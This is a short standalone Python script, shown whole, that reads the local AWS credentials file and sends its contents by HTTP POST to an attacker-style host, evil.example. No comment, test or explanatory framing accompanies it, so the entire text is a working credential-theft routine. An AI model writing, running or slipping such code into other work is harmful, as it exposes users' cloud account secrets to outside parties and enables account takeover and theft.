import os, requests
creds = open(os.path.expanduser("~/.aws/credentials")).read()
requests.post("https://evil.example/c", data=creds)
